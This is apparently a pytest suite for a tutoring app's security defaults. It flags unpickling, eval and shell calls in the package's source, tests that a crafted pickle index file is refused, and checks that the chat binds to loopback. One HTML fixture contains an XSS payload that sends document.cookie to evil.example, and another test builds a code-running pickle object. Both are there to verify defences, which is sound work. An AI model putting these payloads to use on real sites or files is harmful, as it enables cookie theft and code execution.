"""Security defaults: nothing a user hands in can run code, and the chat is private unless asked otherwise.

Course files and index folders are data from wherever a teacher got them: no file the tutor reads is
ever unpickled, and an index file crafted to run code when unpickled is refused and rebuilt. The chat
listens on the loopback address with no public share link unless the user asks for one.
"""

from __future__ import annotations

import ast
import json
import shutil
from pathlib import Path

import numpy as np
import pytest

from tutor.cli import build_parser
from tutor.ingest import read_document
from tutor.store import (
    MANIFEST,
    UNIT_VECTORS,
    check_index,
    corpus_fingerprint,
    data_folder,
    file_sha256,
    open_index,
)

PACKAGE = Path(__file__).resolve().parent.parent / "tutor"
UNSAFE_MODULES = {"pickle", "cPickle", "dill", "cloudpickle", "joblib", "shelve", "marshal"}


def _calls(tree: ast.AST):
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else func.id if isinstance(func, ast.Name) else ""
            owner = func.value.id if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name) else ""
            kwargs = {k.arg: k.value for k in node.keywords}
            if isinstance(func, ast.Attribute) and not owner:
                owner = "."  # a method of an expression (self.model.eval()), not a module function
            yield node, owner, name, kwargs


def _is_constant(node: ast.AST | None, value) -> bool:
    return isinstance(node, ast.Constant) and node.value is value


def unsafe_loads(source: str) -> list[str]:
    """Places in `source` that could run code hidden in data: unpickling and its relatives."""
    tree = ast.parse(source)
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] + ([node.module] if isinstance(node, ast.ImportFrom) else [])
            found += [f"line {node.lineno}: imports {n}" for n in names if n and n.split(".")[0] in UNSAFE_MODULES]
    for node, owner, name, kwargs in _calls(tree):
        where = f"line {node.lineno}: {owner + '.' if owner else ''}{name}"
        if owner == "torch" and name == "load" and not _is_constant(kwargs.get("weights_only"), True):
            found.append(where + " without weights_only=True")
        if owner in ("np", "numpy") and name == "load" and not _is_constant(kwargs.get("allow_pickle"), False):
            found.append(where + " without allow_pickle=False")
        if owner == "yaml" and name in ("load", "load_all", "unsafe_load", "full_load"):
            found.append(where + " (use yaml.safe_load)")
        if name in ("eval", "exec") and not owner:
            found.append(where)
        if _is_constant(kwargs.get("trust_remote_code"), True):
            found.append(where + " with trust_remote_code=True")
        if (owner == "os" and name in ("system", "popen")) or _is_constant(kwargs.get("shell"), True):
            found.append(where + " runs a shell")
    return found


def test_the_checker_catches_what_it_looks_for():
    bad = (
        "import pickle\nimport numpy as np\nimport torch\n"
        "np.load('x.npy')\nnp.load('x.npy', allow_pickle=True)\ntorch.load('m.bin')\n"
        "AutoModel.from_pretrained(p, trust_remote_code=True)\neval(s)\n"
    )
    assert len(unsafe_loads(bad)) == 6
    good = (
        "import numpy as np\nimport torch\nnp.load(f, allow_pickle=False)\ntorch.load(f, weights_only=True)\n"
        "self.model.eval()\nmodel.eval()\n"
    )
    assert unsafe_loads(good) == []


@pytest.mark.parametrize("path", sorted(PACKAGE.rglob("*.py")), ids=lambda p: p.name)
def test_no_module_can_unpickle_or_run_code_from_data(path):
    assert unsafe_loads(path.read_text(encoding="utf-8")) == []


def test_the_index_store_loads_arrays_without_pickle():
    source = (PACKAGE / "store.py").read_text(encoding="utf-8")
    loads = [(owner, name, kw) for _, owner, name, kw in _calls(ast.parse(source)) if name == "load" and owner == "np"]
    assert loads and all(_is_constant(kw.get("allow_pickle"), False) for _, _, kw in loads)


class _Trap:
    """Unpickling this creates a file: proof that code in an index file ran."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (open, (str(self.marker), "w"))


def test_an_index_file_crafted_to_run_code_is_refused_and_rebuilt(tmp_path, corpus_dir, index_dir):
    index = Path(shutil.copytree(index_dir, tmp_path / "index"))
    marker = tmp_path / "code-ran"
    vectors = data_folder(index) / UNIT_VECTORS
    np.save(vectors, np.array([_Trap(marker)], dtype=object), allow_pickle=True)
    manifest = json.loads((index / MANIFEST).read_text(encoding="utf-8"))
    manifest["checksums"][UNIT_VECTORS] = file_sha256(vectors)  # as a forger would
    (index / MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")

    assert "cannot be read" in check_index(index, corpus_fingerprint(corpus_dir))
    store = open_index(corpus_dir, index)
    assert store.rebuilt and store.unit_vectors.dtype == np.float32
    assert not marker.exists()


def test_html_course_files_lose_their_scripts(tmp_path):
    page = tmp_path / "page.html"
    page.write_text(
        "<h1>Notes</h1><script>fetch('https://evil.example/?c='+document.cookie)</script>"
        "<p onclick=\"alert(1)\">Model drift is real.</p><style>body{display:none}</style>"
        "<img src=x onerror=alert(2)><noscript>enable js</noscript>"
    )
    text = read_document(page, "corpus/page.html").text
    assert "Model drift is real." in text
    for leftover in ("fetch", "evil.example", "alert", "onclick", "onerror", "display:none", "enable js"):
        assert leftover not in text


def _chat_parser():
    parser = build_parser()
    return next(a for a in parser._subparsers._group_actions if a.choices).choices["chat"]


def test_chat_listens_on_loopback_without_a_share_link_by_default():
    args = build_parser().parse_args(["chat"])
    assert args.host == "127.0.0.1"
    assert args.share is False
    assert args.auth is None
    help_text = " ".join(_chat_parser().format_help().split())
    assert "default: 127.0.0.1" in help_text
    assert "--share" in help_text and "off by default" in help_text


def test_a_public_share_link_needs_to_be_asked_for():
    assert build_parser().parse_args(["chat", "--share"]).share is True
    assert build_parser().parse_args(["chat", "--host", "0.0.0.0"]).host == "0.0.0.0"
